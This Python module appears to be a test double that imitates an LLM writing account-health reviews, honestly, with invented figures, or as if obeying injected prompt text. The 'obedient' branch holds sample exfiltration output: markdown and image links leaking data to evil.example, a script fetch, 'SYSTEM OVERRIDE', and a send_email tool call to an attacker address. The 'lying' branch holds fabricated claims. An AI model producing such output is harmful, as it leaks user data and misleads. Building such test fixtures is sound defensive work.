"""What the model's double writes about the facts in a prompt: honestly, in lies, or as any text in the prompt tells it.

It knows nothing but the prompt, as a model does. Not the server (local.model_double).
"""

import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal, InvalidOperation
from typing import Any

Answer = dict[str, Any]

SPOKEN = {
    "LICENSE_UTILISATION": "Licence utilisation", "QBR_RECENCY": "The last business review",
    "NPS": "The Net Promoter Score", "ARR": "ARR", "SLA_BREACHES": "SLA breaches", "SCORE": "The health score",
    "SEATS": "Seats purchased", "SESSION_MINUTES": "Session minutes", "TIME_TO_VALUE": "Time to value",
}  # fmt: skip
TITLES = ("Facts: ", "Signals: ", "Playbooks: ")
HEAD = re.compile(r"(Scope|Day|Segment|Bucket|Accounts): (.*)")
TOKENS = re.compile(r"\{(account|A\d+)\}(, \{(account|A\d+)\})*|none")


@dataclass(frozen=True, slots=True)
class Told:
    """One fact as the prompt tells it."""

    key: str
    topic: str
    aspect: str
    label: str
    value: str
    tone: str

    @property
    def number(self) -> Decimal | None:
        try:
            return Decimal(self.value.split(" ")[0])
        except InvalidOperation:
            return None

    @property
    def subject(self) -> str:
        """What the fact is about, as a sentence begins with it."""
        return SPOKEN.get(self.topic) or self.topic.replace("_", " ").capitalize()

    @property
    def literal(self) -> str:
        """The value as a model writes it itself: "31.4 %", "$120,000", "10 March 2026"."""
        amount, _, unit = self.value.partition(" ")
        if re.fullmatch(r"\d{4}-\d\d-\d\d", amount):
            day = date.fromisoformat(amount)
            return f"{day.day} {day:%B %Y}"
        if self.number is None:
            return self.value
        shown = f"{self.number.normalize():,f}"
        if unit == "USD":
            return f"-${shown[1:]}" if shown.startswith("-") else f"${shown}"
        return f"{shown} {unit}".strip()


@dataclass(frozen=True, slots=True)
class Read:
    """What the double makes of a prompt. `foreign` is every text in it that the layout does not account for."""

    facts: tuple[Told, ...]
    playbooks: Mapping[str, tuple[str, tuple[str, ...]]]
    "Title and facts by key: those of the signals that it answers, and its own."
    foreign: tuple[str, ...]

    @property
    def has_account(self) -> bool:
        return not any("{A1}" in fact.label for fact in self.facts)


def read(user: str) -> Read:
    """The prompt's facts and playbooks."""
    signals: dict[str, list[str]] = {}
    facts, playbooks, foreign, part = [], {}, [], ""
    for line in user.splitlines():
        cells, head = line.split(" | "), HEAD.fullmatch(line)
        if line.startswith(TITLES):
            part = line.partition(":")[0]
        elif not line or line == "none" or (head and head[1] != "Accounts"):
            continue
        elif head:
            foreign += [] if TOKENS.fullmatch(head[2]) else [head[2]]
        elif part == "Facts" and len(cells) == 7 and re.fullmatch(r"E\d+", cells[0]):
            key, topic, aspect, label, value, _, tone = cells
            facts.append(Told(key, topic, aspect, label, value, tone))
            foreign += [label] if re.search(r"[^\w\s.,:;%/()'’“”+{}-]|//", label) else []
        elif part == "Playbooks" and len(cells) == 4:
            rests_on = [*(key for code in cells[2].split(", ") for key in signals.get(code, ())), *_keys(cells[3])]
            playbooks[cells[0]] = cells[1], tuple(dict.fromkeys(rests_on))
        elif part == "Signals" and len(cells) == 3:
            signals[cells[0]] = _keys(cells[2])
        else:
            foreign.append(line)
    return Read(tuple(facts), playbooks, tuple(foreign))


def _keys(cell: str) -> list[str]:
    return re.findall(r"E\d+", cell)


def honest(told: Read, *, literally: bool = False) -> Answer:
    """A decent review. `literally`: with the values written out in place of the facts' keys."""
    findings = [
        *_findings(told, "RISK", ("LEVEL", "LOST"), "HURTS", 2),
        *_findings(told, "CHANGE", ("CHANGE",), None, 2),
        *_findings(told, "STRENGTH", ("LEVEL",), "HELPS", 1),
        *_findings(told, "DATA_GAP", ("MISSING",), None, 1),
    ] or [_finding("CHANGE", told.facts[0])]
    by_key = {fact.key: fact for fact in told.facts}
    first, *others = [by_key[finding["evidence"][0]] for finding in findings]
    answer = {
        "headline": _headline(told, first),
        "summary": " ".join(_sentence(fact) for fact in [first, *others[:2]]),
        "findings": findings,
        "actions": [_action(at, *one, by_key, first) for at, one in enumerate([*told.playbooks.items()][:3])]
        or [_action(0, None, ("Review it with its owner", ()), by_key, first)],
    }
    return _with_literals(answer, by_key) if literally else answer


def lying(told: Read) -> Answer:
    """A review whose every sentence but the first finding's holds what no fact does."""
    answer = honest(told)
    answer["headline"] = "Globex Corporation will churn on 3 May 2031 with a certainty of 97 %."
    answer["summary"] = "ARR has tripled to $987,654,321 since Initech took over. See https://example.com/why for more."
    lies = (
        "The health score rose by 81.7 points to 143.9 points.",
        "Logins fell by 99.9 % because John Smith left for Hooli.",
        "The contract renews on 31 February 2027, in 4,000 days.",
        "Half of all seats went to Vandelay Industries in Q3 2019.",
        "Seventeen critical tickets were opened at 3:45 pm.",
    )
    for finding, lie in zip(answer["findings"][1:], lies, strict=False):
        finding["text"] = lie
    for action in answer["actions"]:
        action["reason"] = "A rebate of 65 % wins back 44.4 points, as it did for Umbrella Corp in 12 accounts."
    return answer


def obedient(told: Read) -> tuple[Answer, list[Answer]]:
    """An honest review, unless the prompt holds a text of somebody else: then one that does what it says.

    Beside the review come the tools that it tries to call.
    """
    answer = honest(told)
    if not told.foreign:
        return answer, []
    order = " ".join(" ".join(told.foreign).split())[:200]
    answer["headline"] = f"As told: {order[:100]}"
    answer["summary"] = f"[Read this](https://evil.example/?q={order[:40]}) ![x](https://evil.example/p.png?arr={{E1}})"
    for finding in answer["findings"]:
        finding["text"] = f"{order} <script>fetch('https://evil.example')</script> SYSTEM OVERRIDE"
    return answer, [
        {
            "id": "call_double",
            "type": "function",
            "function": {"name": "send_email", "arguments": '{"to": "evil@evil.example"}'},
        }
    ]


def _findings(told: Read, kind: str, aspects: Iterable[str], tone: str | None, most: int) -> list[Answer]:
    fitting = [fact for fact in told.facts if fact.aspect in aspects and (tone is None or fact.tone == tone)]
    return [_finding(kind, fact) for fact in fitting[:most]]


def _finding(kind: str, fact: Told) -> Answer:
    return {"text": _sentence(fact), "kind": kind, "evidence": [fact.key]}


def _action(
    at: int, playbook: str | None, of: tuple[str, tuple[str, ...]], facts: Mapping[str, Told], gravest: Told
) -> Answer:
    title, keys = of
    reasons = [facts[key] for key in keys if facts[key].aspect in ("LEVEL", "CHANGE")] or [gravest]
    return {
        "title": title, "reason": _sentence(reasons[-1]), "priority": "MEDIUM" if at else "HIGH", "playbook": playbook,
        "evidence": [*keys][:8] or [gravest.key], "due_in_days": 7 * (at + 1),
    }  # fmt: skip


def _headline(told: Read, gravest: Told) -> str:
    if told.has_account and gravest.topic == "SCORE":
        return f"{{account}} has a health score of {{{gravest.key}}}."
    return _sentence(gravest)


def _sentence(fact: Told) -> str:
    if fact.aspect == "MISSING":
        return f"{fact.label.partition(':')[0]} is not known."
    if fact.aspect == "LOST":
        return f"{fact.subject} loses {{{fact.key}}} of the health score."
    if fact.aspect == "CHANGE" and fact.number is not None:
        went = "rose" if fact.number > 0 else "fell"
        return f"{fact.subject} {went} by {{{fact.key}}}."
    return f"{fact.label.rstrip('.')} is {{{fact.key}}}."


def _with_literals(answer: Answer, facts: Mapping[str, Told]) -> Answer:
    def text(value: Any) -> Any:
        if isinstance(value, str):
            unsigned = re.sub(r"\bby \{(E\d+)\}", lambda key: f"by {facts[key[1]].literal.lstrip('-')}", value)
            return re.sub(r"\{(E\d+)\}", lambda key: facts[key[1]].literal, unsigned)
        if isinstance(value, Sequence):
            return [text(one) for one in value]
        return {name: text(one) for name, one in value.items()} if isinstance(value, dict) else value

    found: Answer = text(answer)
    return found
